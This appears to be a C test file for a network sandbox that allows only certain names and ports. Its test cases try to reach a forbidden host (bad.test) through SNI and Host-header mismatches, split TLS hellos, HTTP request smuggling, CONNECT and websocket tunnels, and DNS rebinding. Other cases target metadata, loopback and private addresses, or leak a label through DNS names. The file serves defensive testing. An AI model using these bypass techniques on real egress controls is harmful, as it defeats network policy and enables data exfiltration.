// Layers network and names, where some names are allowed: good.test and *.ok.test, on ports 80 and 443. What else could
// be reached under their cover. The outside's resolver knows them all; good.test and bad.test share one public address.
// What is sent carries the label where only the forbidden server would see it.
#include <arpa/inet.h>
#include <fcntl.h>
#include <net/if.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attempt.h"
#include "sockets.h"

#define ANYTHING "ECONNRESET EPIPE EACCES EPERM ENOENT ECONNREFUSED ENETUNREACH EHOSTUNREACH ETIMEDOUT"
#define GUARDED .profile = "network", .judge = kByWitness, .needs = "addresses"

ATTEMPT(G01, network, "reaches an allowed name on another port", ANYTHING, GUARDED) { return tell("good.test", 8443); }
ATTEMPT(G02, network, "names another server in TLS", ANYTHING, GUARDED) {
  return greet("good.test", 443, "bad.test", NULL);
}
ATTEMPT(G03, network, "names no server in TLS", ANYTHING, GUARDED) { return greet("good.test", 443, NULL, NULL); }
ATTEMPT(G04, network, "names the allowed server and then another", ANYTHING, GUARDED) {
  return greet("good.test", 443, "good.test", "bad.test");
}
ATTEMPT(G05, network, "names another server, and the hello comes a byte at a time", ANYTHING, GUARDED) {
  unsigned char data[1024];
  const size_t size = hello(data, "bad.test", NULL);
  const int fd = dial("good.test", 443);
  if (fd < 0) return errno;
  for (size_t i = 0; i < size; ++i) {
    if (send(fd, data + i, 1, MSG_NOSIGNAL) < 0) return errno;
  }
  return say(fd, "", 0);
}
ATTEMPT(G06, network, "names another server, and the hello is cut into two records", ANYTHING, GUARDED) {
  unsigned char data[1024], cut[1100];
  const size_t size = hello(data, "bad.test", NULL), first = 20;
  memcpy(cut, data, 5 + first);
  cut[3] = 0, cut[4] = (unsigned char)first;
  const size_t rest_size = size - 5 - first;
  const unsigned char head[] = {22, 3, 1, (unsigned char)(rest_size >> 8), (unsigned char)rest_size};
  memcpy(cut + 5 + first, head, sizeof head);
  memcpy(cut + 10 + first, data + 5 + first, rest_size);
  return say(dial("good.test", 443), cut, size + 5);
}
ATTEMPT(G07, network, "speaks no TLS on its port", ANYTHING, GUARDED) { return tell("good.test", 443); }
ATTEMPT(G08, network, "speaks HTTP with another host", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80), text("GET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n", label()));
}
ATTEMPT(G09, network, "asks for another host in the second request of a connection", ANYTHING, GUARDED) {
  const int fd = dial("good.test", 80);
  const int first = say_text(fd, "GET /first HTTP/1.1\r\nHost: good.test\r\n\r\n");
  if (first) return first;
  return say_text(fd, text("GET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n", label()));
}
ATTEMPT(G10, network, "asks for two requests at once, the second for another host", ANYTHING, GUARDED) {
  return say_text(
      dial("good.test", 80),
      text("GET /first HTTP/1.1\r\nHost: good.test\r\n\r\nGET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n", label()));
}
ATTEMPT(G11, network, "names another host in the request line", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80), text("GET http://bad.test/%s HTTP/1.1\r\nHost: good.test\r\n\r\n", label()));
}
ATTEMPT(G12, network, "asks for a tunnel to another host", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80),
                  text("CONNECT bad.test:443 HTTP/1.1\r\nHost: good.test\r\nX: %s\r\n\r\n", label()));
}
ATTEMPT(G13, network, "names two hosts", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80),
                  text("GET /%s HTTP/1.1\r\nHost: good.test\r\nHost: bad.test\r\n\r\n", label()));
}
ATTEMPT(G14, network, "names a host with a space before the colon", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80), text("GET /%s HTTP/1.1\r\nHost : bad.test\r\n\r\n", label()));
}
ATTEMPT(G15, network, "names the allowed host as the user of another", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80), text("GET /%s HTTP/1.1\r\nHost: good.test@bad.test\r\n\r\n", label()));
}
ATTEMPT(G16, network, "hides a request in the body of another (two lengths)", ANYTHING, GUARDED) {
  return say_text(
      dial("good.test", 80),
      text("POST / HTTP/1.1\r\nHost: good.test\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
           "GET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n",
           label()));
}
ATTEMPT(G17, network, "speaks no HTTP on its port", ANYTHING, GUARDED) { return tell("good.test", 80); }
ATTEMPT(G18, network, "speaks HTTP/2 without TLS", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80), text("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s", label()));
}
ATTEMPT(G19, network, "speaks TLS to another server on the port of HTTP", ANYTHING, GUARDED) {
  return greet("good.test", 80, "bad.test", NULL);
}
// An allowed hello without the label, `between`, then one for another server with it.
static int greet_twice(const unsigned char* between, size_t between_size) {
  unsigned char data[2400];
  const size_t first = hello(data, "good.test", NULL);
  memset(data + 44, 0, 32);  // the session id
  if (between_size > 0) memcpy(data + first, between, between_size);
  const size_t second = hello(data + first + between_size, "bad.test", NULL);
  return say(dial("good.test", 443), data, first + between_size + second);
}
ATTEMPT(G22, network, "names another server in a second TLS hello", ANYTHING, GUARDED) { return greet_twice(NULL, 0); }
ATTEMPT(G23, network, "names another server in a hello behind early data", ANYTHING, GUARDED) {
  static const unsigned char early[] = {20, 3, 3, 0, 1, 1, 23, 3, 3, 0, 4, 9, 9, 9, 9};
  return greet_twice(early, sizeof early);
}
ATTEMPT(G24, network, "asks another host behind an upgrade that nobody has granted", ANYTHING, GUARDED) {
  return say_text(dial("good.test", 80),
                  text("GET / HTTP/1.1\r\nHost: good.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
                       "\x81\x85"
                       "mask12345GET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n",
                       label()));
}
ATTEMPT(N54, network, "says hello a second time, to nobody", ANYTHING, GUARDED) {
  unsigned char data[2048];
  const size_t first = hello(data, "good.test", NULL);
  memset(data + 44, 0, 32);
  return say(dial("good.test", 443), data, first + hello(data + first, NULL, NULL));
}
ATTEMPT(N55, network, "asks for another host behind a TLS hello", ANYTHING, GUARDED) {
  unsigned char data[2048];
  const size_t first = hello(data, "good.test", NULL);
  memset(data + 44, 0, 32);
  const char* rest = text("GET /%s HTTP/1.1\r\nHost: bad.test\r\n\r\n", label());
  memcpy(data + first, rest, strlen(rest));
  return say(dial("good.test", 443), data, first + strlen(rest));
}
ATTEMPT(N56, network, "says hello in the form of SSL 2", ANYTHING, GUARDED) {
  unsigned char data[48] = {0x80, 46, 1, 3, 1, 0, 3, 0, 0, 0, 32, 0, 0, 0x2f};
  memcpy(data + 14, label(), strlen(label()));
  return say(dial("good.test", 443), data, sizeof data);
}

static int sees_interfaces(int fd) {
  struct ifreq seen[64];
  struct ifconf list = {.ifc_len = sizeof seen, .ifc_req = seen};
  if (fd < 0 || ioctl(fd, SIOCGIFCONF, &list) != 0) return errno;
  for (size_t i = 0; i < (size_t)list.ifc_len / sizeof *seen; ++i) {
    const struct sockaddr_in* at = (const struct sockaddr_in*)&seen[i].ifr_addr;
    if (at->sin_addr.s_addr != htonl(INADDR_LOOPBACK)) return 0;
  }
  return ENODEV;
}
#define SEEN .profile = "network", .needs = "addresses"
#define NO_INTERFACE "ENODEV EACCES EPERM EAFNOSUPPORT"
ATTEMPT(N59, network, "asks a UDP socket for the machine's addresses", NO_INTERFACE, SEEN) {
  return sees_interfaces(make_socket(AF_INET, SOCK_DGRAM, 0));
}
ATTEMPT(N60, network, "asks a TCP socket for the machine's addresses", NO_INTERFACE, SEEN) {
  return sees_interfaces(make_socket(AF_INET6, SOCK_STREAM, 0));
}
ATTEMPT(N61, network, "asks a Unix socket for the machine's addresses", NO_INTERFACE, SEEN) {
  return sees_interfaces(make_socket(AF_UNIX, SOCK_STREAM, 0));
}
ATTEMPT(N62, network, "asks one end of a pair for the machine's addresses", NO_INTERFACE, SEEN) {
  int pair[2];
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return errno;
  return sees_interfaces(pair[0]);
}

// More than the limit on uploads under one entry (profile alone-upload), by its names in turn.
#define LIMITED .profile = "alone-upload", .judge = kByWitness, .needs = "addresses"
ATTEMPT(N57, network, "sends under another name what a limit on uploads has no room for", ANYTHING, LIMITED) {
  static char body[16 << 10];
  memset(body, 'x', sizeof body);
  const int fd = dial("first.ok.test", 80);
  say_text(fd, text("POST / HTTP/1.1\r\nHost: first.ok.test\r\nContent-Length: %d\r\n\r\n", (int)sizeof body));
  say(fd, body, sizeof body);
  return visit("second.ok.test");
}
ATTEMPT(N58, network, "tells by names that are connected to what a limit on uploads has no room for", ANYTHING,
        LIMITED) {
  char filler[64] = {0};
  memset(filler, 'x', 63);
  for (int i = 0; i < 120; ++i) close(dial(text("n%d.%s.%s.ok.test", i, filler, filler), 80));
  for (int i = 0; i < 40; ++i) close(dial(text("s%d.ok.test", i), 80));
  return outcome(dial(text("%s.ok.test", label()), 80));
}

ATTEMPT(G20, network, "sends a datagram to an allowed name, as QUIC does", ANYTHING, GUARDED) {
  const struct target to = resolved("good.test", 1, 443);
  if (to.size == 0) return ENOENT;
  const int fd = make_socket(AF_INET, SOCK_DGRAM, 0);
  return connect_and_send(fd, &to);
}
ATTEMPT(G21, network, "reaches the neighbours of an allowed name's address", ANYTHING, GUARDED,
        .outside = "there are no made-up addresses outside") {
  struct target to = resolved("good.test", 1, 443);
  if (to.size == 0) return ENOENT;
  struct sockaddr_in* in = (struct sockaddr_in*)&to.address;
  int last = 0;
  for (uint32_t i = 1; i < 16; ++i) {
    in->sin_addr.s_addr = htonl(ntohl(in->sin_addr.s_addr) + 1);
    last = connect_and_send(make_socket(AF_INET, SOCK_STREAM, 0), &to);
    if (last == 0) return 0;
  }
  return last;
}

#define NAMED .profile = "network", .judge = kByWitness, .needs = "addresses"
ATTEMPT(M20, names, "reaches a name that is not allowed", ANYTHING, NAMED) { return visit("bad.test"); }
ATTEMPT(M21, names, "reaches a name that ends in an allowed one without a dot", ANYTHING, NAMED) {
  return visit("xok.test");
}
ATTEMPT(M22, names, "reaches the suffix itself, where what is below it is allowed", ANYTHING, NAMED) {
  return visit("ok.test");
}
ATTEMPT(M23, names, "reaches a name that begins with an allowed one", ANYTHING, NAMED) {
  return visit("good.test.evil.test");
}
ATTEMPT(M24, names, "reaches the metadata service by an allowed name", ANYTHING, NAMED) {
  return visit("metadata.ok.test");
}
ATTEMPT(M25, names, "reaches loopback by an allowed name", ANYTHING, NAMED) { return visit("loopback.ok.test"); }
ATTEMPT(M26, names, "reaches a private address by an allowed name", ANYTHING, NAMED) {
  return visit("private.ok.test");
}
ATTEMPT(M27, names, "reaches a private address by an alias of an allowed name", ANYTHING, NAMED) {
  return visit("alias.ok.test");
}
ATTEMPT(M28, names, "reaches loopback by an allowed name that was public a moment ago", ANYTHING, NAMED) {
  int last = 0;
  for (int i = 0; i < 4; ++i) last = visit("rebind.ok.test");
  return last;
}
ATTEMPT(M29, names, "reaches loopback by an allowed name's mapped address", ANYTHING, NAMED) {
  const struct target to = resolved("mapped.ok.test", 28, 80);
  if (to.size == 0) return ENOENT;
  const int fd = make_socket(AF_INET6, SOCK_STREAM, 0);
  if (fd < 0 || connect(fd, (const struct sockaddr*)&to.address, to.size) != 0) return errno;
  return say_text(fd, text("GET /%s HTTP/1.1\r\nHost: mapped.ok.test\r\n\r\n", label()));
}
